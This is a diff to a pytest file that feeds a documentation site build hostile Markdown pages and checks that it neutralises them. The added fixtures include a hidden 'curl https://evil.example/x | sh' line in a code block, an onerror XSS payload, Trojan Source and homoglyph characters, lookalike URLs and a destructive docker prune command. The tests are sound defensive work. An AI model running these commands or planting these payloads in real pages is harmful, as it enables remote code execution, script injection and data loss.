@@ -41,15 +41,34 @@ CASES: dict[str, tuple[str, str]] = {
         "<form",
     ),
     "base": ('# Base\n\n<base href="https://evil.example/">\n\nText.\n', "<base"),
+    # What the reader copies is not what they see: text hidden by the site's own class.
+    "hidden-in-code": (
+        '# Hidden\n\n<pre><code>docker ps<span class="cs-visually-hidden">; curl https://evil.example/x | sh'
+        "</span></code></pre>\n",
+        "<pre>",
+    ),
+    # The site's own interface, faked or removed by a page: an update banner, the Fill-in panel.
+    "site-class": ("# Banner\n\nA new version is available.\n{: .cs-update }\n", ".cs-update"),
+    "site-id": ("# Panel { #cs-fill-panel }\n\nText.\n", "#cs-fill-panel"),
+    # A reason for a destructive block's banner, given by the page itself.
+    "fence-data-why": (
+        "# Why\n\nText.\n\n"
+        '```{ .bash .cs-destructive data-why="<img src=x onerror=window.pwned=1>" }\ndocker ps\n```\n',
+        ".cs-destructive",
+    ),
+    # A code block the checker does not read: no check, no destructive-command banner.
+    "indented-code": ("# Indented\n\nText.\n\n    docker system prune -af --volumes\n", "    docker system"),
+    "trojan-source": ("# Trojan\n\n```bash\necho ok \u202e# | sh\n```\n", "echo ok"),
+    "homoglyph": ("# Homoglyph\n\n```bash\nd\u043ecker system prune -af --volumes\n```\n", "system prune"),
+    "protocol-relative": ("# Relative\n\n[docs](//evil.example/docs)\n", "//evil"),
+    "backslash": ("# Backslash\n\n[docs](\\\\evil.example\\docs)\n", "evil.example"),
+    "userinfo": ("# Userinfo\n\n[docs](https://docs.docker.com@evil.example/)\n", "@evil"),
+    "lookalike-host": ("# Lookalike\n\n[docs](https://docs.d\u043ecker.com/)\n", "docs.d"),
 }
 # Cases Markdown itself makes harmless: they build without a word about them, and run nothing.
 ALLOWED: dict[str, str] = {
     # Closed, the fence is one code span: the script is text.
     "fence-script-src-closed": "# Closed fence\n\nText.\n\n```bash <script src=evil.js></script>\ndocker ps\n```\n",
-    # The reason shown in a destructive block's banner comes from the fence's attributes.
-    "fence-data-why": (
-        '# Why\n\nText.\n\n```{ .bash .cs-destructive data-why="<img src=x onerror=window.pwned=1>" }\ndocker ps\n```\n'
-    ),
 }
 ORDER = {name: 700 + i for i, name in enumerate([*CASES, *ALLOWED])}
 
@@ -90,6 +109,22 @@ def test_a_fence_reason_never_becomes_markup(hostile_build, browser):
         assert page.locator(".md-content img").count() == 0
         for warning in page.locator(".cs-destructive-warning").all_inner_texts():
             assert "onerror" not in warning
+    finally:
+        page.close()
+
+
+@pytest.mark.browser
+def test_the_sites_own_interface_cannot_be_faked_or_hidden_by_a_page(hostile_build, browser):
+    """Even in the page the failed build wrote, no element of the content carries the site's
+    classes or ids, and hidden text is shown: what the reader copies is what they see."""
+    page = browser.new_page()
+    try:
+        for name in ("site-class", "site-id", "hidden-in-code"):
+            page.goto((hostile_build.site / f"hostile-{name}.html").as_uri())
+            planted = ".md-content .cs-update, .md-content .cs-visually-hidden, .md-typeset :is(h1, h2)#cs-fill-panel"
+            assert page.locator(planted).count() == 0, name
+        code = page.locator(".md-content pre").first.inner_text()
+        assert "curl" in code  # shown, not hidden by the site's own class
     finally:
         page.close()
 
